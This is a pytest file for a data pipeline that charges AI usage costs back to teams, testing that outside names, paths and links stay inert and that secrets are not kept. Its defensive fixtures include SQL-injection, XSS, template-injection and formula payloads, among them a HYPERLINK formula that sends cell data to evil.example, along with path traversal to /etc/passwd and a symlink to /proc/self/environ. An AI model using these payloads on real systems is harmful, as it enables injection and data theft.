"""What comes from outside is data: no name, path or link of it acts, and what is private is forgotten."""

from __future__ import annotations

import gzip
import re
import shutil
import sqlite3
import types
import typing
import zlib
from contextlib import closing as closing_of
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import duckdb
import pytest
import yaml
from conftest import ACTIVE_TAGS, Books, assert_nothing_left, digests, hand_written
from leaks import files_with
from markdown_it import MarkdownIt
from spreadsheets import cells, is_formula
from typer.testing import CliRunner

from dagster_project import (
    cli,
    closing,
    journal,
    markdown,
    pipeline,
    pulled_days,
    retention,
    settings,
    sources,
    statement,
)
from dagster_project.days import Days
from dagster_project.errors import ConfigError, SourceError
from dagster_project.ingest import ingest
from dagster_project.settings import Retention
from dagster_project.sources import Parsed, Source, _files

HOSTILE = (
    "'); drop table fct_charges; --",
    "{{ env_var('HOME') }} {% raw %}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("https://evil.example?"&A1)',
    "a|b\n|c| ![x](https://evil.example) `<b>` \\| &lt;b&gt;",
    "../../../etc/passwd",
    "\x1b[2J\x1b]0;owned\x07 \x9b31m",
    "nul\x00byte",
    "cod\u202eexe.bat \u2066",
    "x" * 1_000_000,
)

# --- Secrets


def test_every_field_that_holds_a_secret_is_a_reference_to_the_environment():
    secret = re.compile("key|secret|token|password|credential|database_url|dsn", re.IGNORECASE)
    references = {settings.Secret, settings.SecretReference, types.NoneType}
    found = set()
    for name, module in sources.modules().items():
        for field, said in module.Entry.model_fields.items():
            if secret.search(field):
                found.add(f"{name}.{field}")
                assert {said.annotation, *typing.get_args(said.annotation)} & references, (name, field)
                assert set(typing.get_args(said.annotation)) <= references, (name, field)
    assert {"openai.api_key", "litellm.database_url", "mapped.database_url"} <= found


def test_the_dagster_instance_has_no_secret_and_tells_nobody_anything():
    file = Path(settings.__file__).with_name("dagster.yaml")
    said = yaml.safe_load(file.read_text(encoding="utf-8"))
    assert said["telemetry"] == {"enabled": False}
    assert set(said) == {"telemetry", "nux", "concurrency", "run_monitoring"}
    project = yaml.safe_load((settings.CHECKOUT / "dbt" / "dbt_project.yml").read_text(encoding="utf-8"))
    assert project["flags"]["send_anonymous_usage_stats"] is False


@pytest.mark.parametrize("packed", ["log.txt", "log.gz", "log.zst", "log.parquet", "log.duckdb", "log.db"])
def test_what_looks_for_leaks_finds_one_in_every_kind_of_file(tmp_path, packed):
    """The check of a whole run (test_pipeline) is only worth what this one is."""
    file, text = tmp_path / packed, "planted " + "secret " * 1000
    match file.suffix:
        case ".txt":
            file.write_text(text)
        case ".gz":
            file.write_bytes(gzip.compress(text.encode()))
        case ".zst":
            lines = "header false, delim '\x01', quote '', escape '', compression zstd"
            duckdb.execute(f"copy (select ? as l) to '{file}' (format csv, {lines})", [text])
        case ".parquet":
            duckdb.execute(f"copy (select {{'a': [?]}} as s) to '{file}' (compression zstd)", [text])
        case ".duckdb":
            with duckdb.connect(str(file)) as engine:
                engine.execute("create schema s; create table s.t as select [?] as l", [text])
        case ".db":
            with closing_of(sqlite3.connect(file)) as database:
                database.execute("create table t (b)")
                database.execute("insert into t values (?)", [zlib.compress(text.encode())])
                database.commit()
    assert files_with(tmp_path, ["nothing", "planted secret"]) == [packed]
    assert files_with(tmp_path, ["nothing"]) == []


# --- Names in what is opened by other programs


SPREADSHEET = (
    *HOSTILE[:9],
    *(sign + "1+1" for sign in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"),
    *(f"a{between}=1+1" for between in (";", "\t", "|", ",", "\n", "\r\n", "; ", ';"', "\x00", ";\u200b")),
    *(f"{hidden}=1+1" for hidden in (" ", "\u00a0", "\x00", "\u200b", "\ufeff", "\u202e", '"')),
)


@pytest.mark.parametrize("name", SPREADSHEET)
def test_no_cell_of_a_statement_is_a_formula_and_none_moves_a_cursor(tmp_path, name):
    statement.write_csv(tmp_path / "a.csv", ["team", "usd"], [{"team": name, "usd": Decimal("-1.50")}])
    text = (tmp_path / "a.csv").read_bytes().decode()
    assert [cell for cell in cells(text) if is_formula(cell)] == []
    assert all(c.isprintable() or c.isspace() for c in text)
    assert text.endswith(",-1.50\r\n")


@pytest.mark.parametrize("name", SPREADSHEET)
def test_no_cell_of_a_journal_is_a_formula(tmp_path, name):
    accounts = settings.Journal(expense_account="6420", payable_account=name, accrual_account="2190")
    row = {"team": name, "cost_center": name, "provider": name, "corrects_month": None}
    row |= {"cost_basis": "billed", "cost_usd": Decimal(1)}
    month = date(2026, 10, 1)
    booked = [line.row(month) for line in journal.lines([row], month, accounts)]
    statement.write_csv(tmp_path / "a.csv", journal.COLUMNS, booked)
    text = (tmp_path / "a.csv").read_bytes().decode()
    assert [cell for cell in cells(text) if is_formula(cell)] == []


class _Shown(HTMLParser):
    """Tags and cell texts of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.cells: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)
        if tag in ("td", "th"):
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if data != "\n":
            self.cells[-1] += data


def test_a_preview_in_the_ui_is_a_table_of_texts():
    text = markdown.table(["name", "usd"], [[name, Decimal("1.5")] for name in HOSTILE] + [[None, None]])
    page = _Shown(MarkdownIt("commonmark").enable("table").render(text))
    assert page.tags == {"table", "thead", "tbody", "tr", "th", "td"}
    *shown, empty = zip(page.cells[2::2], page.cells[3::2], strict=True)
    assert empty == ("", "")
    assert [usd for _, usd in shown] == ["1.5"] * len(HOSTILE)
    for (cell, _), name in zip(shown, HOSTILE, strict=True):
        assert len(cell) <= markdown.LONGEST + 3
        assert cell.isprintable()
        if name.isprintable():
            assert cell.removesuffix("...") == name[: markdown.LONGEST]


def test_what_a_query_or_an_error_prints_moves_no_cursor_and_is_no_markup(home, capsys):
    with duckdb.connect(str(home / "warehouse.duckdb")) as published:
        rows = [[f"{name[:60]}[red]"] for name in HOSTILE]
        published.execute('create table t ("head\x1b[2J[bold]" varchar)')
        published.executemany("insert into t values (?)", rows)
    asked = CliRunner().invoke(cli.app, ["query", "from t"], env={"COLUMNS": "300"})
    assert asked.exit_code == 0
    assert asked.output.count("[red]") == len(HOSTILE)
    assert "\\x1b[2J" in asked.output
    with pytest.raises(SystemExit):
        cli._fail("first \x1b[2J\u202e[red]\nsecond", 1)
    printed = asked.output + capsys.readouterr().err
    assert printed.endswith("first \\x1b[2J\\u202e[red]\nsecond\n")
    assert [c for c in printed if not c.isprintable() and c != "\n"] == []


# --- Paths


@pytest.mark.parametrize(
    "name", ["", "../up", "a/b", "/a", "a.b", "A", "a b", "a\n", "a\x00", "_empty", "-a", "é", "a" * 61]
)
def test_the_name_of_an_entry_is_one_word_that_is_no_path(name):
    with pytest.raises(ValueError, match="name"):
        settings.Entry(name=name, type="openai", start_date=date(2026, 10, 1))


@pytest.mark.parametrize(
    "month", ["../../etc", "2026-10/..", "/2026-10", "2026-13", "2026-10\x1b[2J", "", "."]
)
def test_a_month_is_a_month_and_no_path(home, month):
    for command in (["close"], ["journal"], ["reopen", "--reason", "x"]):
        refused = CliRunner().invoke(cli.app, [*command, "--", month])
        assert refused.exit_code == 2
        assert "is not a month" in refused.output
        assert "\x1b[2J" not in refused.output
    assert list(home.iterdir()) == []


@pytest.mark.parametrize("folder", ["a\nb", "a\x1b[2J", "a\u202eb", "a\udcffb", "a;b'", "a%2Fb"])
def test_a_home_that_does_not_show_or_ends_a_text_is_refused(tmp_path, monkeypatch, folder):
    monkeypatch.setenv("CHARGEBACK_HOME", str(tmp_path / folder))
    with pytest.raises(ConfigError, match="choose another folder") as refused:
        settings.home()
    assert str(refused.value).isprintable()


def test_a_home_of_odd_but_plain_characters_works(tmp_path):
    books = Books(tmp_path / "a b;c#d&e$HOME~é\N{PARTY POPPER}")
    books.asked(FIRST, "acme", "key", "vk", input_tokens=5)
    books.charge(FIRST, "acme", "1")
    books.pull(Days(FIRST, FIRST))
    (report, _) = books.pull(Days(FIRST, FIRST))
    assert report.restated.records == 0
    assert books.lake.days_of("request", "gateway") == [FIRST]
    with pipeline.instance(books.lake) as recorded:
        assert recorded.get_runs() == []
    assert (books.home / "dagster" / "history" / "runs.db").exists()


RECORD = '{"n": 1}\n'
TODAY_ALONE = Days(date(2026, 11, 21), date(2026, 11, 21))


@pytest.fixture
def logs(tmp_path) -> Path:
    """A folder of logs with a file, and beside it what is none of it."""
    (tmp_path / "logs" / "pod").mkdir(parents=True)
    (tmp_path / "logs" / "pod" / "a.json").write_text(RECORD)
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "b.json").write_text(RECORD)
    return tmp_path / "logs"


@pytest.mark.parametrize(
    ("link", "target", "pattern"),
    [
        ("pod/b.json", "../../private/b.json", "**/*.json"),
        ("pod/b.json", "../../private/b.json", "pod/b*.json"),
        ("other", "../private", "**/*.json"),
        ("other", "../private", "*/*.json"),
        ("pod/c.json", "/proc/self/environ", "**/*.json"),
    ],
)
def test_a_link_that_leads_out_of_the_logs_is_refused(logs, link, target, pattern):
    (logs / link).symlink_to(target)
    with pytest.raises(SourceError) as refused:
        _files.find("gateway", f"{logs}/{pattern}", TODAY_ALONE)
    said = str(refused.value)
    assert said.startswith(f"source `gateway`, {logs / link}")
    assert f"leads out of {logs}" in said
    assert "Copy it there" in said


def test_a_path_that_climbs_out_behind_a_glob_is_refused(logs):
    with pytest.raises(SourceError, match="leads out of"):
        _files.find("gateway", f"{logs}/*/../../private/*.json", TODAY_ALONE)


def test_links_inside_the_logs_and_a_link_to_the_logs_are_read(logs):
    (logs / "pod" / "current.json").symlink_to("a.json")
    (logs.parent / "linked").symlink_to("logs")
    for folder in (logs, logs.parent / "linked"):
        files = _files.find("gateway", f"{folder}/**/*.json", TODAY_ALONE)
        assert sorted(Path(file).name for file in files) == ["a.json", "current.json"]
    single = logs.parent / "one.json"
    single.symlink_to("private/b.json")
    assert list(_files.find("gateway", str(single), TODAY_ALONE)) == [str(single)], "named as it is"


# --- Retention


FIRST = date(2026, 10, 1)
DAYS = Days(FIRST, FIRST + timedelta(days=9))
TODAY = date(2026, 10, 11)
FIVE = Retention(request_days=5, raw_days=5)
"""Of the ten days the last five are kept, and today."""
OLD = Days(FIRST, date(2026, 10, 5))
KEPT = Days(date(2026, 10, 6), DAYS.last)


@pytest.fixture
def books(home) -> Books:
    """Thirty requests of each of ten days with a bill, pulled when they were settled."""
    books = Books(home)
    for day in DAYS:
        books.charge(day, "acme", "3")
        for number in range(30):
            request = f"{day} {number}"
            books.asked(day, "acme", "key", "vk", input_tokens=5, record_id=request, trace_id="whose-it-is")
    books.pull(DAYS, TODAY)
    return books


def pull(books: Books, days: Days, keep: Retention, **given) -> None:
    source = given.pop("source", None) or hand_written("gateway", {"request": books.requests})
    now = datetime(TODAY.year, TODAY.month, TODAY.day, 5, tzinfo=UTC)
    ingest(source, days, books.lake, ACTIVE_TAGS, now, retention=keep, **given)


def requests(books: Books) -> dict[date, int]:
    """Request records that are left, by day."""
    glob = f"{books.lake.root}/records/request/gateway/*.parquet"
    rows = duckdb.execute(
        f"select usage_date, count(*) from read_parquet('{glob}') group by all order by all"
    )
    return dict(rows.fetchall())


def others(books: Books) -> dict[str, str]:
    """All that is kept besides request records."""
    return {file: said for file, said in digests(books.home).items() if "/records/request/" not in file}


def test_old_request_records_go_and_all_else_stays(books):
    before, recent = (
        others(books),
        {d: books.lake.records("request", "gateway", d).read_bytes() for d in KEPT},
    )
    assert retention.honour(books.lake, FIVE, TODAY) == (0, len(DAYS) - len(KEPT))
    assert requests(books) == dict.fromkeys(KEPT, 30)
    assert others(books) == before
    assert {day: books.lake.records("request", "gateway", day).read_bytes() for day in KEPT} == recent
    assert books.lake.days_of("request", "gateway") == list(DAYS), "each day still is a file"
    columns = "describe from read_parquet('{}')"
    old, new = (books.lake.records("request", "gateway", day) for day in (FIRST, DAYS.last))
    assert duckdb.sql(columns.format(old)).fetchall() == duckdb.sql(columns.format(new)).fetchall()
    assert files_with(books.home / "lake" / "rollups", ["whose-it-is"]) == []
    again = digests(books.home)
    assert retention.honour(books.lake, FIVE, TODAY) == (0, 0)
    assert digests(books.home) == again
    assert_nothing_left(books.home)


def test_no_number_is_made_of_request_records():
    """So none moves when they go: a view shows them, and nothing else reads them."""
    models = settings.CHECKOUT / "dbt"
    files = [file for part in ("models", "tests", "macros") for file in (models / part).rglob("*.sql")]
    of_records = re.compile(
        r"""source\(\s*["']lake["'],\s*["']requests["']\s*\)|ref\(["']fct_requests["']\)"""
    )
    readers = [file.name for file in files if of_records.search(file.read_text(encoding="utf-8"))]
    assert readers == ["fct_requests.sql"]


def test_without_a_retention_everything_is_kept(books):
    before = digests(books.home)
    retention.honour(books.lake, Retention(), date(2036, 1, 1))
    assert digests(books.home) == before


@pytest.mark.parametrize(("today", "left"), [(date(2026, 10, 6), 10), (date(2026, 10, 7), 9)])
def test_the_last_days_are_counted_from_yesterday(books, today, left):
    retention.honour(books.lake, FIVE, today)
    assert len(requests(books)) == left


def test_an_old_day_that_is_pulled_again_has_its_rollup_and_no_records(books):
    everything = others(books)
    pull(books, DAYS, FIVE)
    retention.honour(books.lake, FIVE, TODAY)  # by the next build, which first decides whose calls they are
    assert requests(books) == dict.fromkeys(KEPT, 30)
    rollups = {file: said for file, said in everything.items() if "rollups" in file}
    assert {file: said for file, said in others(books).items() if "rollups" in file} == rollups
    books.requests = [{**row, "input_tokens": 7} for row in books.requests]
    pull(books, DAYS, FIVE)
    tokens = duckdb.execute(
        f"select sum(quantity) from read_parquet('{books.lake.root}/rollups/request/gateway/*.parquet') "
        "where meter = 'input'"
    ).fetchall()
    assert tokens == [(10 * 30 * 7,)], "what the log says now counts, of forgotten days too"


def test_what_was_kept_shorter_comes_back_whole_when_it_is_pulled_again(books):
    before = digests(books.home)
    retention.honour(books.lake, FIVE, TODAY)
    books.pull(DAYS, TODAY)
    assert digests(books.home) == before


def test_a_forgotten_day_is_still_compared_when_an_answer_is_cut_off(books):
    retention.honour(books.lake, FIVE, TODAY)
    before = digests(books.home)
    books.requests = [row for row in books.requests if row["record_id"].endswith(" 0")]
    with pytest.raises(SourceError, match=r"2026-10-01: 1 where 30 were expected"):
        pull(books, DAYS, FIVE)
    assert digests(books.home) == before
    known = pulled_days.read(books.lake.pulled_days("gateway"))
    assert known.filter(usage_date=FIRST)["rows"].to_list() == [30]


def test_a_forgotten_day_whose_log_is_gone_is_not_emptied(books):
    retention.honour(books.lake, FIVE, TODAY)
    before = digests(books.home)
    gone = hand_written("gateway", {"request": []})
    parsed = gone.module.parse
    gone.module.parse = lambda *asked: Parsed(parsed(*asked).records, days_without_files=[FIRST])
    with pytest.raises(
        SourceError, match="nothing of this day is left to read, and 30 records of it were read before"
    ):
        pull(books, Days(FIRST, FIRST), FIVE, source=gone, accept_small_days=True)
    assert digests(books.home) == before
    books.lake.records("request", "gateway", FIRST).unlink()  # what the message says to do
    pull(books, Days(FIRST, FIRST), FIVE, source=gone, accept_small_days=True)
    assert requests(books) == dict.fromkeys(KEPT, 30)


def test_a_forgotten_day_is_no_reason_not_to_close_its_month(books):
    retention.honour(books.lake, Retention(request_days=1), date(2026, 12, 1))
    source = hand_written("gateway", {"request": []})
    whole = Source(source.entry.model_copy(update={"start_date": FIRST}), source.module)
    (doubt,) = closing._doubts_of(books.lake, whole, Days.of_month(FIRST))
    assert doubt.startswith("gateway: no request records of 2026-10-11")


def test_killed_in_the_middle_it_goes_on_the_next_time(books, monkeypatch):
    whole = Books(books.home / "other")
    whole.requests, whole.charges = books.requests, books.charges
    whole.pull(DAYS, TODAY)
    retention.honour(whole.lake, FIVE, TODAY)

    class Killed(BaseException):
        """Nothing handles it."""

    replaced = []

    def replace_two(new: Path, place: Path) -> None:
        if len(replaced) == 2:
            raise Killed
        replaced.append(place)
        new.replace(place)

    with monkeypatch.context() as patched:
        patched.setattr(retention, "replace_file", replace_two)
        with pytest.raises(Killed):
            retention.honour(books.lake, FIVE, TODAY)
    assert len(requests(books)) == 8
    assert_nothing_left(books.home)
    retention.honour(books.lake, FIVE, TODAY)
    of_books = {file: said for file, said in digests(books.home).items() if "/gateway/" in file}
    assert of_books == {file: said for file, said in digests(whole.home).items() if "/gateway/" in file}


def answering(books: Books) -> Source:
    """A source whose answers are kept."""
    source = hand_written("openai", {"charge": books.charges})

    def fetch(_entry: settings.Entry, days: Days, raw: Path) -> None:
        (raw / "pages.json").write_text(f"what was said of {days}")

    return Source(source.entry, SimpleNamespace(**{**vars(source.module), "KEEPS_RAW": True, "fetch": fetch}))


def answers(books: Books) -> list[str]:
    return sorted(folder.name for folder in (books.home / "raw" / "openai").iterdir())


def test_old_answers_go_with_their_last_day(books):
    for days in (OLD, KEPT, DAYS):
        pull(books, days, Retention(), source=answering(books))
    (books.home / "raw" / "openai" / "notes").mkdir()
    assert answers(books) == [*(f"{days.first}..{days.last}" for days in (OLD, DAYS, KEPT)), "notes"]
    retention.honour(books.lake, FIVE, TODAY)
    assert answers(books) == [*(f"{days.first}..{days.last}" for days in (DAYS, KEPT)), "notes"]
    pull(books, OLD, FIVE, source=answering(books))
    assert len(answers(books)) == 3, "they are not kept again"
    assert_nothing_left(books.home)


def test_what_is_removed_follows_no_link(books, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / "precious").write_text("precious")
    pull(books, OLD, Retention(), source=answering(books))
    linked = books.home / "raw" / "openai" / f"{FIRST}..{FIRST}"
    linked.symlink_to(outside)
    (books.lake.raw("openai", OLD) / "link").symlink_to(outside)
    left = books.home / "scratch" / "999999999-killed"
    left.mkdir()
    (left / "link").symlink_to(outside)
    retention.honour(books.lake, FIVE, TODAY)
    assert answers(books) == []
    assert not left.exists()
    assert [file.name for file in outside.iterdir()] == ["precious"]
    for target in (outside, outside / "nothing"):
        linked.symlink_to(target)
        pull(books, Days(FIRST, FIRST), Retention(), source=answering(books))
        assert (linked / "pages.json").exists()
        assert not linked.is_symlink()
        shutil.rmtree(linked)
    assert [file.name for file in outside.iterdir()] == ["precious"]


def test_a_folder_of_answers_that_is_a_link_is_refused(books, tmp_path_factory):
    outside = tmp_path_factory.mktemp("outside")
    (outside / f"{FIRST}..{FIRST}").mkdir()
    (books.home / "raw").mkdir()
    (books.home / "raw" / "openai").symlink_to(outside)
    before = digests(books.home)
    with pytest.raises(ConfigError, match=r"raw/openai: is a link, and .*leave out `raw_days`"):
        retention.honour(books.lake, FIVE, TODAY)
    assert (outside / f"{FIRST}..{FIRST}").exists()
    assert digests(books.home) == before


@pytest.mark.parametrize(
    ("said", "problem"), [("request_days: 0", "greater than or equal to 1"), ("days: 3", "Extra")]
)
def test_a_retention_that_cannot_be_meant_is_refused(tmp_path, said, problem):
    file = tmp_path / "sources.yaml"
    file.write_text(f"sources: {{}}\nretention: {{{said}}}\n")
    with pytest.raises(ConfigError, match=problem):
        settings.load(file, {})
    file.write_text("sources: {}\nretention: {request_days: 90}\n")
    assert settings.load(file, {}).retention == Retention(request_days=90)
